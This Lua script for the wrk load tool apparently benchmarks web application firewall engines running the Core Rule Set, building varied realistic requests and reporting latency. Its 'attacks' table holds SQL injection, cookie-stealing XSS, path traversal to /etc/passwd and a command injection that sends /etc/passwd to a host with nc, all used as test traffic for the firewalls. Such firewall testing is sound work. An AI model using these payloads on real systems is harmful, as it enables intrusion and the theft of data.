-- Requests for the comparison of engines that run the Core Rule Set, in 64 varieties, built once
-- before the load begins. Before it is measured, every engine must let all of them pass at its
-- paranoia level, or block all of them if they are attacks.
--
-- An engine may remember values that it has seen. So that this pays only where it does for a real
-- site, the varieties of some loads have pieces that are made anew for every request: no value of
-- form-fresh, json and get-cookies (but for settings such as theme=light) comes twice.
--
--   WEIR_BENCH_LOAD   get, get-cookies (24 cookies, 2 kB), form (25 fields, 800 bytes, values repeat),
--                     form-fresh (25 fields, 1.4 kB), json (2 kB, 77 values), upload (24 kB multipart),
--                     asked-0, asked-50, asked-100 (fresh pages, so many of a hundred below /asked/),
--                     attack, mixed (all but form and upload, one in 50 an attack), signed (the input of
--                     the signature check: a text of Latin and CJK words)
--   WEIR_BENCH_BODY   size of the form in bytes
--   WEIR_BENCH_SITES  number of hosts to use in turn instead of one

local ffi = require "ffi"
local VARIETIES = 64
local UPLOAD_BYTES = 24000
local FORM_BYTES = 800
local BOUNDARY = "----WebKitFormBoundaryQ3hBv9vXw0aZkT2n"

local paths = { "/shop/cart/update", "/account/profile", "/search", "/api/v1/orders", "/blog/2026/11/hello-world/comments" }
local agents = {
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
}
local words = {
  "garden", "oak", "chair", "blue", "summer", "order", "delivery", "Karlsruhe", "selected", "square", "table",
  "four", "Berlin", "coin", "reading", "picnic", "point", "Lovelace", "Hopper", "Meitner", "Noether", "standard", "wood",
}
local fields = {
  "first_name", "last_name", "company", "street", "city", "country", "phone", "email", "quantity", "colour", "size",
  "material", "note", "coupon", "delivery", "payment", "newsletter", "terms", "language", "currency", "step", "gift",
  "token", "reference", "submit",
}
local attacks = {
  "1' UNION SELECT username, password FROM users-- ", "<script>alert(document.cookie)</script>",
  "../../../../../../etc/passwd", "; cat /etc/passwd | nc 198.51.100.1 4444", "'; DROP TABLE users; --",
}

-- A pseudo-random generator, so that every run sends the same requests.
local state = 20261122
local function random(n)
  state = (state * 1103515245 + 12345) % 2147483648
  return math.floor(state / 65536) % n + 1
end
local function pick(list) return list[random(#list)] end
local function hex(n)
  local out = {}
  for i = 1, n do out[i] = string.format("%x", random(16) - 1) end
  return table.concat(out)
end
local function encode(text)
  return (text:gsub("[^%w%-_.~ \1-\4]", function(c) return string.format("%%%02X", c:byte()) end):gsub(" ", "+"))
end

-- Fresh pieces. In a text, {w} stands for a word of 10 letters, {n} for 10 digits, {h} for 8 hexadecimal
-- digits and {b} for 8 characters of base64. Each consists of two of 65,536 units; until a request is
-- made, the bytes 1 to 4 keep their places. No letters hold a v: CRS takes having anywhere in a value for SQL.
local units = {
  w = { mark = "\1", width = 5, make = function(i)
    local consonants, vowels = "bcdfgjklmnprstwz", "aeio"
    local function one(of, scale) local n = math.floor(i / scale) % #of + 1; return of:sub(n, n) end
    return one(consonants, 1) .. one(vowels, 16) .. one(consonants, 64) .. one(vowels, 1024) .. one(consonants, 4096)
  end },
  n = { mark = "\2", width = 5, make = function(i) return string.format("%05d", i) end },
  h = { mark = "\3", width = 4, make = function(i) return string.format("%04x", i) end },
  b = { mark = "\4", width = 4, make = function(i)
    local digits, out = "ABCDEFGHIJKLMNOPQRSTUWXYZabcdefghijklmnopqrstuwxyz0123456789", ""
    local n = i * 197
    for _ = 1, 4 do out, n = out .. digits:sub(n % 60 + 1, n % 60 + 1), math.floor(n / 60) end
    return out
  end },
}
local by_mark = {}
for _, unit in pairs(units) do by_mark[unit.mark] = unit end
local function fresh(text)
  return (text:gsub("{([wnhb])}", function(kind) return units[kind].mark:rep(2 * units[kind].width) end))
end

-- A request and the places of its fresh pieces: each an offset, the width of a unit, and all units in a row.
local function dissect(text)
  local places, at = {}, text:find("[\1-\4]")
  while at do
    local unit = by_mark[text:sub(at, at)]
    if not unit.all then
      local all = {}
      for i = 0, 65535 do all[i + 1] = unit.make(i) end
      unit.all = table.concat(all)
    end
    places[#places + 1] = { at = at - 1, width = unit.width, all = ffi.cast("const char *", unit.all) }
    at = text:find("[\1-\4]", at + 2 * unit.width)
  end
  return { bytes = ffi.new("char[?]", #text + 1, text), length = #text, places = places }
end

-- Numbers of 32 bits, each once in a period (Numerical Recipes, section 7.1), from a start that no other run has.
local piece = 0
local function fill(request)
  local bytes, places = request.bytes, request.places
  for i = 1, #places do
    local place = places[i]
    local width, all = place.width, place.all
    piece = (piece * 1664525 + 1013904223) % 4294967296
    ffi.copy(bytes + place.at, all + math.floor(piece / 65536) * width, width)
    ffi.copy(bytes + place.at + width, all + piece % 65536 * width, width)
  end
  return ffi.string(bytes, request.length)
end

-- Words up to about `size` bytes.
local function prose(size)
  local out, length = {}, 0
  while length < size do
    out[#out + 1] = pick(words)
    length = length + #out[#out] + 1
  end
  return table.concat(out, " ")
end

-- The fields are the same for every size; their values grow.
local function form(size, extra)
  local names = 0
  for _, name in ipairs(fields) do names = names + #name + 2 end
  local each = math.max(1, math.floor((size - names) / #fields) - 5)
  local out = {}
  for i, name in ipairs(fields) do out[i] = name .. "=" .. encode(prose(each)) end
  for i, value in ipairs(extra or {}) do out[#out + 1] = "extra" .. i .. "=" .. encode(value) end
  return table.concat(out, "&")
end

-- What people write in a form.
local sentences = {
  "Please leave the parcel with our neighbour {w} if nobody is at home.", "The bell doesn't work, so knock twice, please.",
  "We'd like the {w} in dark oak (not in pine), as discussed on the phone.", "Thanks a lot for your quick reply!",
  "Is it possible to change the delivery to Friday, between 9 and 12 o'clock?", "My last order, no. {n}, came without screws.",
  "Two of the chairs are for our office; please send a separate invoice for {w}.", "Kind regards, {w} & family",
  "The old table was 80 x 120 cm, the new one should be a bit larger.", "I've attached a photo of the corner of the room.",
  "It's a present, so don't put the price on the box.", "Could you call me back about the {w} before the weekend?",
  "The door is 1.9 m high - will it fit?", "He said: \"the blue one\", but I'm not sure which {w} he meant.",
}
local function letter(count)
  local out = {}
  for i = 1, count do out[i] = pick(sentences) end
  return table.concat(out, " ") .. " {w}"
end
local answers = {
  { "first_name", "Ada {w}" }, { "last_name", "{w}-Lovelace" }, { "company", "{w} & Söhne GmbH" },
  { "street", "Untere {w}straße 17a" }, { "city", "Bad {w}" }, { "postcode", "D-{n}" }, { "phone", "+49 721 {n}" },
  { "email", "ada-{w}@{w}.example.com" }, { "birthday", "1985-12-10 {n}" }, { "customer", "K-{n}/{h}" },
  { "delivery_at", "2026-11-24T18:05:07.{n}Z" }, { "created", "24.11.2026 {n}" }, { "coupon", "SUMMER-{b}" },
  { "csrf_token", "{h}{h}{h}{h}{h}" }, { "session", "{b}{b}{b}{b}" }, { "reference", "{h}-{h}-{h}" },
  { "back", "/shop/{w}/garden-chairs?page=2&item={n}" }, { "website", "https://{w}.example.org/about" },
  { "subject", "Question about order {n} ({w})" }, { "colour", "dark {w} blue" }, { "size", "80 x 120 x {n}" },
  { "amount", "{n}.95" }, { "gift_text", 1 }, { "note", 3 }, { "message", 6 },
}
local function form_fresh()
  local out = {}
  for i, field in ipairs(answers) do
    local value = type(field[2]) == "number" and letter(field[2]) or field[2]
    out[i] = field[1] .. "=" .. encode(fresh(value))
  end
  return table.concat(out, "&")
end

-- A cart of seven products with eleven values each.
local products = {
  'Bilderrahmen 5\\" x 7\\" [schwarz]', 'Monitor 27\\" (matt, höhenverstellbar)', "Gartenstuhl »Wörth«, Eiche geölt",
  'Rohr 1/2\\" & 3/4\\", verzinkt', "Lampe {E27} 60 W / 230 V~", "Übertopf Ø 32 cm; frostfest", "Kids' T-Shirt (100 % cotton)",
}
local function json()
  local items = {}
  for i = 1, 7 do
    items[i] = '{"sku":"{h}","name":"' .. products[(i + random(7)) % 7 + 1] .. ' {w}","brand":"{w}-Holz","colour":"{w}-blau",'
      .. '"size":"' .. random(90) .. ' x ' .. random(90) .. ' cm {n}","price":"{n},90 EUR","stock":1{n}.5,"ean":"{n}",'
      .. '"note":"bitte {w} liefern!","image":"img-{w}-' .. random(99) .. '.jpg","parcel":"{h}-{n}"}'
  end
  return fresh('{"items":[' .. table.concat(items, ",") .. "]}")
end

-- Cookies of analytics, sessions, consent, experiments and preferences.
local cookies = fresh(table.concat({
  "_ga=GA1.2.{n}.{n}", "_gid=GA1.2.{n}.{n}", "_gcl_au=1.1.{n}.{n}", "_ga_7QXK9V2M1B=GS1.1.{n}.3.1.{n}.42.0.0",
  "_fbp=fb.1.176{n}.{n}", "_hjSessionUser_2847=eyJpZCI6{b}{b}{b}{b}{b}{b}{b}{b}{b}{b}", "_uetvid={h}{h}{h}{h}",
  "_pk_id.1.1fff={h}{h}.{n}", "sessionid={h}{h}{h}{h}", "csrftoken={b}{b}{b}{b}{b}{b}{b}{b}",
  "access_token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOi" .. ("{b}"):rep(50) .. ".SflKxwRJ" .. ("{b}"):rep(5),
  "refresh_token=v1-" .. ("{b}"):rep(8), "euconsent-v2=CPz" .. ("{b}"):rep(44) .. ".YAAAAAAAAAAA",
  "OptanonConsent=isGpcEnabled=0&datestamp=Tue+Nov+24+2026+{n}&version=202410.1.0&consentId={h}-{h}&groups=C0001%3A1%2CC0002%3A1",
  "OptanonAlertBoxClosed=2026-11-24T18:05:07.{n}Z", "cart={h}-{h}-{h}", "visitor={w}-{n}", "exp_checkout=b.{n}",
  "last_viewed={n}%2C{n}%2C{n}%2C{n}", "utm=src%3Dnewsletter%26id%3D{n}", "ajs_anonymous_id=%22{h}-{h}-{h}%22",
  "theme=light", "lang=en-GB", "currency=EUR",
}, "; "))

-- Three fields and a file of arbitrary bytes except line breaks, like an image.
local function upload(size)
  local out = {}
  for _, name in ipairs { "title", "album", "note" } do
    out[#out + 1] = "--" .. BOUNDARY .. '\r\nContent-Disposition: form-data; name="' .. name .. '"\r\n\r\n' .. prose(20) .. fresh " {w}\r\n"
  end
  local bytes = {}
  for i = 1, size - 700 do
    local byte = random(256) - 1
    bytes[i] = string.char((byte < 5 or byte == 10 or byte == 13) and 32 or byte)
  end
  bytes[#bytes] = fresh "{b}"
  out[#out + 1] = "--" .. BOUNDARY .. '\r\nContent-Disposition: form-data; name="photo"; filename="garden.jpg"\r\n'
    .. "Content-Type: image/jpeg\r\n\r\n" .. table.concat(bytes) .. "\r\n--" .. BOUNDARY .. "--\r\n"
  return table.concat(out)
end

local function query()
  return "?q=" .. encode(prose(8)) .. "&page=" .. random(40) .. "&sort=" .. pick { "price", "name", "date" } .. "&lang=en"
end

-- The input of the signature check: 40 tokens, some of them CJK.
local cjk = { "订单", "确认", "东京", "北京", "价格", "数量", "ありがとう", "サイズ", "주문", "배송" }
local SIGNED_TOKENS = 40
local function signed()
  local out = {}
  for i = 1, SIGNED_TOKENS do out[i] = random(4) == 1 and pick(cjk) or pick(words) .. random(99) end
  return table.concat(out, ", ")
end

-- Method, content type and body of each load, and cookies and path if they are not the usual ones.
local FORM = "application/x-www-form-urlencoded"
local size = tonumber(os.getenv("WEIR_BENCH_BODY") or "")
local loads = {
  get = function() return "GET" end,
  ["get-cookies"] = function() return "GET", nil, nil, cookies end,
  form = function() return "POST", FORM, form(size or FORM_BYTES) end,
  ["form-fresh"] = function() return "POST", FORM, form_fresh() end,
  json = function() return "POST", "application/json; charset=utf-8", json() end,
  upload = function() return "POST", "multipart/form-data; boundary=" .. BOUNDARY, upload(UPLOAD_BYTES) end,
  signed = function() return "POST", "text/plain; charset=utf-8", signed() end,
  attack = function() return "POST", FORM, form(FORM_BYTES, attacks) end,
}
-- Pages of which none is asked for twice.
local page = 0
for _, share in ipairs { 0, 50, 100 } do
  loads["asked-" .. share] = function()
    page = page + 1
    return "GET", nil, nil, nil, (page * share % 100 < share and "/asked/" or "/other/") .. fresh "{w}/{h}{h}"
  end
end
local MIXED = { "get", "get-cookies", "form-fresh", "json" }
local MIXED_VARIETIES, MIXED_ATTACK = 200, 50
local mixed_number = 0
function loads.mixed()
  mixed_number = mixed_number + 1
  return loads[mixed_number % MIXED_ATTACK == 0 and "attack" or MIXED[mixed_number % #MIXED + 1]]()
end
local load = os.getenv("WEIR_BENCH_LOAD") or "get"
local make = assert(loads[load], "WEIR_BENCH_LOAD is no load")
local host = os.getenv("WEIR_BENCH_SITES")

local requests = {}
function init()
  local varieties = load == "mixed" and MIXED_VARIETIES or (size or 0) > 20000 and 8 or VARIETIES
  local a, b, c, d = assert(io.open("/dev/urandom")):read(4):byte(1, 4)
  piece = ((a * 256 + b) * 256 + c) * 256 + d
  for i = 1, varieties do
    local method, content_type, body, crumbs, path = make()
    local text = wrk.format(method, (path or pick(paths)) .. query(), {
      ["Host"] = host and "site-" .. (i - 1) % tonumber(host) .. ".example.com" or "www.example.com",
      ["User-Agent"] = pick(agents),
      ["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
      ["Accept-Language"] = "en-GB,en;q=0.8,de;q=0.5",
      ["Accept-Encoding"] = "gzip, deflate, br",
      ["Content-Type"] = content_type,
      ["Referer"] = "https://www.example.com/",
      ["Cookie"] = crumbs or "sid=" .. hex(32) .. "; theme=light; consent=1",
      ["Cache-Control"] = "max-age=0",
    }, body)
    requests[i] = text:find("[\1-\4]") and dissect(text) or text
  end
end

local next_request = 0
function request()
  next_request = next_request % #requests + 1
  local request = requests[next_request]
  return type(request) == "string" and request or fill(request)
end

-- The one line that the benchmark parses; the rest of the output of wrk is for people.
function done(summary, latency, _)
  local e = summary.errors
  io.write(string.format(
    'weir-load {"requests":%d,"duration_us":%d,"bytes":%d,"p50_us":%d,"p90_us":%d,"p99_us":%d,"max_us":%d,'
      .. '"failed_connects":%d,"failed_reads":%d,"failed_writes":%d,"bad_statuses":%d,"timeouts":%d}\n',
    summary.requests, summary.duration, summary.bytes, latency:percentile(50), latency:percentile(90),
    latency:percentile(99), latency.max, e.connect, e.read, e.write, e.status, e.timeout))
end
